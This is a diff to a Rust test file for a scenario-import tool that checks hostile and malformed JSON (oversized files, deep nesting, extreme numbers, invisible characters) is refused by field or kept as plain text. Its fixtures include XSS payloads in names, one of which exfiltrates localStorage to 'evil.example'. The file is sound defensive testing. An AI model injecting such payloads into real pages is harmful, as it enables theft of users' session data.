@@ -1,6 +1,6 @@
 //! Hostile and broken files: each must give an error naming the field (or a valid scenario), never a panic.
 //! Truncation, wrong types, NaN and 1e400, negative populations, dates out of order, deep nesting,
-//! duplicate keys, unknown fields, versions from the future, and random byte mutations.
+//! duplicate keys, versions from the future, and random byte mutations.
 
 mod common;
 
@@ -131,7 +131,11 @@ fn references_and_ids_are_checked() {
 fn structural_junk_is_refused() {
     let text = minimal_text();
     let deep = format!("{}{}", "[".repeat(300), "]".repeat(300));
-    check_refused(&text.replacen("\"测试方案\"", &deep, 1), "name");
+    // The strict JSON reader stops at depth 128, at the place it got to (a path under `name`).
+    let errors = wuzha::parse_scenario(&text.replacen("\"测试方案\"", &deep, 1)).err().unwrap_or_default();
+    assert!(errors.len() == 1 && errors[0].path.starts_with("name[0]"), "{errors:?}");
+    assert!(errors[0].message(Lang::En).contains("recursion limit"), "{}", errors[0].message(Lang::En));
+    assert!(errors[0].message(Lang::En).len() < 400, "a long path is shortened in the message");
     assert!(wuzha::parse_scenario(&deep).is_err());
     // A duplicate key is reported at the object holding it, naming the key in the message.
     let duplicate = text.replacen("\"name\": \"测试方案\"", "\"name\": \"测试方案\", \"name\": \"again\"", 1);
@@ -141,7 +145,7 @@ fn structural_junk_is_refused() {
     check_refused(&format!("{text} {{}}"), ".");
     check_refused("", ".");
     check_refused("null", ".");
-    check_value_refused(|v| v["villages"][0]["population"] = json!(5), "villages[0].population");
+    // An unknown field is not refused but kept and warned about (tests/migrate.rs); a null entry is refused.
     check_value_refused(|v| v["villages"][0] = json!(null), "villages[0]");
 }
 
@@ -151,15 +155,20 @@ fn a_file_from_a_newer_version_is_refused_whole() {
     value["format_version"] = json!(2);
     let errors = wuzha::parse_scenario(&value.to_string()).err().unwrap_or_default();
     assert_eq!(errors.len(), 1);
-    assert!(matches!(errors[0].kind, ErrorKind::UnsupportedVersion { found: 2, supported: 1 }));
+    assert!(matches!(errors[0].kind, ErrorKind::NewerVersion { found: 2, newest: 1 }));
+    assert_eq!(errors[0].path, "format_version");
+    assert!(errors[0].message(Lang::Zh).contains("format_version"), "{}", errors[0].message(Lang::Zh));
+    assert!(errors[0].message(Lang::En).contains("newer Wuzha"), "{}", errors[0].message(Lang::En));
 }
 
 #[test]
-fn markup_in_names_is_kept_as_plain_text() {
+fn markup_in_names_is_kept_as_plain_text_and_invisible_characters_are_shown_without() {
     let mut value = common::minimal();
-    value["villages"][0]["name"] = json!("<script>alert(1)</script>\u{202e}\u{200b}");
+    value["villages"][0]["name"] = json!("<script>alert(1)</script>\u{202e}\u{200b}一村");
     let (file, scenario) = wuzha::parse_scenario(&value.to_string()).expect("names are free text");
-    assert_eq!(file.villages[0].name, scenario.villages[0].name);
+    // The file keeps what was written (saving gives it back); the shown name drops the override and the space.
+    assert_eq!(file.villages[0].name, "<script>alert(1)</script>\u{202e}\u{200b}一村");
+    assert_eq!(scenario.villages[0].name, "<script>alert(1)</script>一村");
 }
 
 #[test]
@@ -206,4 +215,228 @@ fn reach_is_never_a_share_of_smartphone_holders() {
         },
         "targets[0].denominator",
     );
+}
+
+// ---- The hostile corpus of issue 6: each case gives a valid scenario or errors naming the field, in under 2 s.
+
+/// The most a hostile case may take, import through simulation: 2 s in an optimised build (what users run;
+/// `cargo test --release --test hostile`), three times that in an unoptimised test build.
+const TIME_LIMIT: std::time::Duration = std::time::Duration::from_secs(if cfg!(debug_assertions) { 6 } else { 2 });
+
+/// Imports, validates and (when valid) simulates `text` under the time limit; returns the errors (empty when valid).
+fn timed(label: &str, text: &str) -> Vec<wuzha::FieldError> {
+    let started = std::time::Instant::now();
+    let read = wuzha::parse_scenario(text);
+    let errors = match read {
+        Ok((_, scenario)) => {
+            let outcome = wuzha::simulate(&scenario);
+            assert!(outcome.totals.cash_yuan.is_finite(), "{label}: non-finite cost");
+            Vec::new()
+        }
+        Err(errors) => errors,
+    };
+    let took = started.elapsed();
+    eprintln!("hostile corpus: {label}: {} bytes, {} errors, {took:?}", text.len(), errors.len());
+    assert!(took < TIME_LIMIT, "{label} took {took:?}");
+    for error in &errors {
+        assert!(error.message(Lang::Zh).chars().count() < 400, "{label}: a message is too long");
+        assert!(error.message(Lang::En).chars().count() < 400, "{label}: a message is too long");
+    }
+    errors
+}
+
+fn with_villages(rows: &str) -> String {
+    minimal_text().replacen("\"villages\": [", &format!("\"villages\": [{rows}"), 1)
+}
+
+#[test]
+fn files_over_the_size_limit_are_refused_before_parsing() {
+    let fifty_mb = format!("{{\"name\": \"{}\"}}", "x".repeat(50 * 1024 * 1024));
+    let errors = timed("50 MB of text", &fifty_mb);
+    assert_eq!(errors.len(), 1);
+    assert_eq!(
+        errors[0].kind,
+        ErrorKind::FileTooLarge { bytes: fifty_mb.len() as u64, max: wuzha::MAX_FILE_BYTES as u64 }
+    );
+    assert_eq!(errors[0].path, ".");
+    let village = r#"{"id": "v", "name": "村", "residents": 100, "households": 40, "grids": 1, "grid_workers": 1}, "#;
+    let million_full_rows = with_villages(&village.repeat(1_000_000));
+    assert!(matches!(timed("a million full village rows", &million_full_rows)[0].kind, ErrorKind::FileTooLarge { .. }));
+    let just_over = format!("{}{}", minimal_text(), " ".repeat(wuzha::MAX_FILE_BYTES));
+    assert!(matches!(timed("valid JSON padded past the limit", &just_over)[0].kind, ErrorKind::FileTooLarge { .. }));
+}
+
+#[test]
+fn a_million_row_village_list_under_the_size_limit_is_refused_by_field() {
+    let errors = timed("a million empty village rows", &with_villages(&"{}, ".repeat(1_000_000)));
+    assert_eq!(errors[0].path, "villages[0]", "{errors:?}");
+    let errors = timed("a million null village rows", &with_villages(&"null,".repeat(1_000_000)));
+    assert_eq!(errors[0].path, "villages[0]", "{errors:?}");
+    // Rows that parse: the list is refused as too long before any per-village work.
+    let village = r#"{"id":"v","name":"村","residents":9,"households":4,"grids":1,"grid_workers":1},"#;
+    let rows = village.repeat(wuzha::MAX_FILE_BYTES / village.len() - 100);
+    let errors = timed("60 000 parseable village rows", &with_villages(&rows));
+    assert!(errors.iter().any(|error| error.path == "villages" && matches!(error.kind, ErrorKind::TooMany { .. })));
+}
+
+/// A valid file just under the size limit: every list at its limit, and a long note for the rest.
+fn largest_valid_file() -> String {
+    let mut value = common::minimal();
+    let villages: Vec<serde_json::Value> = (0..wuzha::validate::MAX_VILLAGES)
+        .map(|idx| json!({ "id": format!("v{idx}"), "name": format!("村{idx}"), "residents": 3000, "households": 1000, "grids": 3, "grid_workers": 3 }))
+        .collect();
+    value["villages"] = json!(villages);
+    value["channels"] = json!([common::banner(), common::visits()]);
+    let schedule: Vec<serde_json::Value> = (0..wuzha::validate::MAX_SCHEDULE)
+        .map(|idx| json!({ "channel": if idx % 2 == 0 { "banner" } else { "visit" }, "phase": "all_year", "units": 0.01, "village": format!("v{}", idx % 500) }))
+        .collect();
+    value["schedule"] = json!(schedule);
+    let text = serde_json::to_string(&value).unwrap_or_default();
+    let room = wuzha::MAX_FILE_BYTES - text.len() - 100;
+    value["note"] = json!("注".repeat(room / 3));
+    serde_json::to_string(&value).unwrap_or_default()
+}
+
+#[test]
+fn the_largest_valid_file_opens_and_simulates_in_time() {
+    let text = largest_valid_file();
+    assert!(text.len() > wuzha::MAX_FILE_BYTES - 200 && text.len() <= wuzha::MAX_FILE_BYTES, "{}", text.len());
+    assert_eq!(timed("largest valid file (500 villages, 2000 schedule lines, a long note)", &text), []);
+}
+
+#[test]
+fn script_and_javascript_in_names_are_plain_text() {
+    let mut value = common::minimal();
+    value["name"] = json!("<img src=x onerror=alert(1)>方案");
+    value["township"]["name"] = json!("javascript:alert(document.cookie)");
+    value["villages"][0]["name"] = json!("<script>fetch('https://evil.example/'+localStorage)</script>");
+    value["products"][0]["name"] = json!("</textarea><svg onload=alert(1)>");
+    let text = value.to_string();
+    assert_eq!(timed("markup in names", &text), []);
+    let (_, scenario) = wuzha::parse_scenario(&text).expect("valid");
+    assert_eq!(scenario.name, "<img src=x onerror=alert(1)>方案");
+    assert_eq!(scenario.township_name, "javascript:alert(document.cookie)");
+    assert!(scenario.villages[0].name.starts_with("<script>"));
+}
+
+#[test]
+fn invisible_and_direction_changing_characters_are_refused_in_ids_and_left_out_of_names() {
+    for (label, id) in [
+        ("zero-width space", "v\u{200b}1"),
+        ("right-to-left override", "\u{202e}1v"),
+        ("BOM", "v1\u{feff}"),
+        ("NUL", "v\u{0}1"),
+    ] {
+        let mut value = common::minimal();
+        value["villages"][0]["id"] = json!(id);
+        let errors = timed(&format!("{label} in an id"), &value.to_string());
+        assert!(
+            errors.iter().any(|e| e.path == "villages[0].id" && matches!(e.kind, ErrorKind::InvisibleCharacter { .. })),
+            "{label}: {errors:?}"
+        );
+        assert!(errors[0].message(Lang::Zh).contains("不可见"), "{}", errors[0].message(Lang::Zh));
+    }
+    let mut value = common::minimal();
+    value["segments"][0]["name"] = json!("\u{202e}体全\u{200f}");
+    value["products"][0]["name"] = json!("\u{200b}\u{2066}");
+    let errors = timed("a name of invisible characters only", &value.to_string());
+    assert_eq!(errors.iter().map(|e| e.path.as_str()).collect::<Vec<_>>(), ["products[0].name"]);
+    value["products"][0]["name"] = json!("App");
+    let (_, scenario) = wuzha::parse_scenario(&value.to_string()).expect("valid");
+    assert_eq!(scenario.segments[0].name, "体全", "shown without the override, so it cannot flip the line");
+}
+
+#[test]
+fn null_entries_are_refused_at_their_path_or_read_as_absent() {
+    check_value_refused(|v| v["segments"] = json!([null]), "segments[0]");
+    check_value_refused(|v| v["phases"][0] = json!(null), "phases[0]");
+    check_value_refused(|v| v["schedule"] = json!([null]), "schedule[0]");
+    check_value_refused(|v| v["township"] = json!(null), "township");
+    check_value_refused(|v| v["villages"][0]["residents"] = json!(null), "villages[0].residents");
+    check_value_refused(
+        |v| v["last_year"]["cases_monthly"] = json!([1, 2, null, 4, 5, 6, 7, 8, 9, 10, 11, 12]),
+        "last_year.cases_monthly[2]",
+    );
+    // An optional field written as null is the same as leaving it out.
+    let mut value = common::minimal();
+    value["note"] = json!(null);
+    value["budget"] = json!({ "total_yuan": null });
+    assert_eq!(timed("null optional fields", &value.to_string()), []);
+}
+
+#[test]
+fn extreme_numbers_are_refused_at_their_path() {
+    let cases: [(&str, serde_json::Value, &str); 8] = [
+        ("/segments/0/share", json!(-1e308), "segments[0].share"),
+        ("/products/0/q", json!(-1e308), "products[0].q.value"),
+        ("/products/0/q", json!({ "value": 0.01, "low": -1e308 }), "products[0].q.low"),
+        ("/last_year/cases_total", json!(1.7976931348623157e308), "last_year.cases_total"),
+        ("/budget", json!({ "total_yuan": -1e308 }), "budget.total_yuan"),
+        ("/seed", json!(u64::MAX), "seed"),
+        ("/behaviour/case_trend", json!(5e-324), "."),
+        ("/villages/0/residents", json!(i64::MAX), "villages[0].residents"),
+    ];
+    for (pointer, number, path) in cases {
+        let mut value = common::minimal();
+        if let Some(slot) = value.pointer_mut(pointer) {
+            *slot = number;
+        } else if let Some(object) = value.as_object_mut() {
+            object.insert(pointer.trim_start_matches('/').to_string(), number);
+        }
+        let errors = timed(&format!("{pointer} extreme"), &value.to_string());
+        if path == "." {
+            // The smallest subnormal is a valid (tiny) trend: accepted, and the simulation stays finite.
+            assert_eq!(errors, [], "{pointer}");
+        } else {
+            assert!(errors.iter().any(|error| error.path == path), "{pointer}: {errors:?}");
+        }
+    }
+}
+
+#[test]
+fn dates_out_of_range_or_malformed_are_refused() {
+    for date in [
+        "9999-12-31",
+        "0000-01-01",
+        "2022-00-10",
+        "2022-13-01",
+        "2023-02-29",
+        "+022-01-01",
+        "２０２２-01-01",
+        "2022-1-1",
+        "2022/01/01",
+        "",
+    ] {
+        check_value_refused(|v| v["start_date"] = json!(date), "start_date");
+    }
+    let long = "2022-01-01".repeat(100_000);
+    let mut value = common::minimal();
+    value["phases"][0]["end"] = json!(long);
+    let errors = timed("a megabyte date", &value.to_string());
+    assert!(errors.iter().any(|error| error.path == "phases[0].end"), "{errors:?}");
+}
+
+#[test]
+fn absurd_populations_are_refused() {
+    check_value_refused(|v| v["villages"][0]["residents"] = json!(i64::MIN), "villages[0].residents");
+    check_value_refused(|v| v["villages"][0]["residents"] = json!(2_000_001), "villages[0].residents");
+    check_value_refused(
+        |v| v["villages"][0]["grid_workers"] = json!(1_000_000_000_000_i64),
+        "villages[0].grid_workers",
+    );
+    check_refused(&minimal_text().replace("\"residents\": 1000", "\"residents\": 1e6"), "villages[0].residents");
+    check_refused(
+        &minimal_text().replace("\"residents\": 1000", "\"residents\": 99999999999999999999"),
+        "villages[0].residents",
+    );
+    // Five hundred villages of two million people each: allowed, and the simulation stays finite and fast.
+    let mut value = common::minimal();
+    let villages: Vec<serde_json::Value> = (0..500)
+        .map(|idx| json!({ "id": format!("v{idx}"), "name": "大村", "residents": 2_000_000, "households": 2_000_000, "grids": 100_000, "grid_workers": 100_000 }))
+        .collect();
+    value["villages"] = json!(villages);
+    value["channels"] = json!([common::visits()]);
+    value["schedule"] =
+        json!([{ "channel": "visit", "phase": "all_year", "units": 1e7, "per": "day", "basis": "per_grid_worker" }]);
+    assert_eq!(timed("a billion residents, every grid worker visiting daily", &value.to_string()), []);
 }
